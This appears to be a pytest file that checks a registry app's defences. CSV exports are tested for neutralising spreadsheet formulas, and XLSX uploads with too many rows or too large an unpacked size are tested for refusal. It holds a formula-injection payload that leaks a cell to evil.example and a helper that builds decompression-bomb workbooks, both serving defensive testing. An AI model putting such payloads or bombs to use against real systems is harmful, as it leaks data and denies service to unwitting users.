"""Spreadsheets are hostile both ways: exports never carry a live formula, oversized XLSX is refused unopened."""
import csv
import io
import time
import zipfile

import pytest

from app import xlsx
from app.errors import Invalid
from app.registry.tables import neutralised, restored
from app.screening import formats
from app.screening.formats import FormatError
from tests.registry.test_import import GOOD, upload, xlsx_bytes
from tests.screening.test_formats_worldbank import write_workbook

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def headers(make_token, authority):
    return make_token("admin", kind="platform")


def exported_rows(client, headers):
    response = client.get("/api/v1/registry/export?format=csv", headers=headers)
    assert response.status_code == 200
    return response.data, list(csv.DictReader(io.StringIO(response.data.decode())))


def test_a_formula_in_an_agency_name_exports_as_text_and_imports_back_unchanged(client, headers, make_agency):
    make_agency(legal_name=FORMULA, aliases=[{"name": "+1 Overseas", "kind": "other"}], website="@evil")
    data, rows = exported_rows(client, headers)
    assert rows[0]["legal_name"] == "'" + FORMULA
    assert rows[0]["aliases"] == "'+1 Overseas" and rows[0]["website"] == "'@evil"
    again = upload(client, headers, data, "export.csv")
    assert again.status_code == 200 and again.json["unchanged"] == 1 and again.json["created"] == 0


def test_no_exported_cell_starts_with_a_formula_character(client, headers, make_agency):
    for name in ("-Minus Overseas", "\tTab Overseas", "'=Quoted Overseas", "Plain Overseas"):
        make_agency(legal_name=name)
    _, rows = exported_rows(client, headers)
    assert rows and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


@pytest.mark.parametrize("text", ["=1+1", "'=1+1", "''@x", "-5", "\r\nx", "plain", "'plain", "", "O'Brien"])
def test_neutralising_round_trips_every_text(text):
    assert restored(neutralised(text)) == text
    assert not neutralised(text).lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) or \
        neutralised(text).startswith("'")


def sheet_bomb(rows):
    """An XLSX whose sheet holds `rows` empty rows after the header: a few KB zipped, slow to open."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes(GOOD[:1])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                head, _, tail = data.partition(b"</sheetData>")
                data = head + b"".join(b'<row r="%d"/>' % n for n in range(3, rows + 3)) + b"</sheetData>" + tail
            target.writestr(member, data)
    return out.getvalue()


def test_an_xlsx_with_too_many_rows_is_refused_before_it_is_opened(client, headers, session):
    limit = xlsx.limits()["max_rows"]
    bomb = sheet_bomb(limit + 1)
    assert len(bomb) < 409_600  # smaller than the file of the issue that cost 50 s
    started = time.perf_counter()
    response = upload(client, headers, bomb, "registry.xlsx")
    assert time.perf_counter() - started < 5
    assert response.status_code == 422
    assert f"more than {limit} rows" in response.json["message"] and set(response.json["errors"]) == {"file"}


def test_an_xlsx_that_unpacks_beyond_the_limit_is_refused():
    padded = io.BytesIO()
    with zipfile.ZipFile(padded, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/media/padding.bin", b"\0" * 2_000_000)
    with pytest.raises(Invalid) as refused:
        xlsx.check_size(io.BytesIO(padded.getvalue()), "big.xlsx", max_bytes=1_000_000, max_rows=10)
    assert "unpacks to" in refused.value.message and set(refused.value.errors) == {"big.xlsx"}


def test_rows_are_counted_across_read_chunks():
    archive = zipfile.ZipFile(io.BytesIO(sheet_bomb(150_000)))
    member = archive.getinfo("xl/worksheets/sheet1.xml")
    assert xlsx.count_rows(archive, member, 10**9) == 150_002


def test_an_xlsx_within_the_limits_imports(client, headers):
    response = upload(client, headers, xlsx_bytes(GOOD), "registry.xlsx")
    assert response.status_code == 200 and response.json["created"] == 2


def test_a_world_bank_workbook_with_too_many_rows_is_refused_naming_the_file(tmp_path):
    path = write_workbook(tmp_path / "debarred.xlsx")
    with zipfile.ZipFile(path) as source:
        members = [(member, source.read(member)) for member in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for member, data in members:
            if member.filename == "xl/worksheets/sheet1.xml":
                head, _, tail = data.partition(b"</sheetData>")
                data = head + b"<row/>" * (xlsx.limits()["max_rows"] + 1) + b"</sheetData>" + tail
            target.writestr(member, data)
    with pytest.raises(FormatError) as refused:
        list(formats.parse("worldbank-xlsx", [path]))
    assert refused.value.where == "debarred.xlsx" and "more than" in refused.value.message
